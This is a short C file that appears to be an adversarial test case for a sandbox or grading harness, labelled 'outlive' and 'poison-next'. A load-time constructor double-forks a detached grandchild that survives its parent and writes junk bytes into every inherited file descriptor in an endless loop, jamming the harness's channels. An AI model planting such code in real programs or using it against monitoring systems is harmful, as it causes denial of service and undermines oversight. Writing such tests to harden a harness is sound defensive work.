/* Case: C017 outlive, C036 poison-next
 * Attacks: the end of a vector: a grandchild that stays and answers later
 * On-reference: function worse, program same or worse
 * Undefended: stuck */
#include <unistd.h>

__attribute__((constructor)) static void outlive(void)
{
	if (fork() != 0)
		return;
	if (fork() != 0)
		_exit(0);
	setsid();
	for (;;) {
		for (int fd = 3; fd < 64; fd++)
			(void)!write(fd, "\0\0\0\5\0\0\0\0", 9);
		usleep(1000);
	}
}
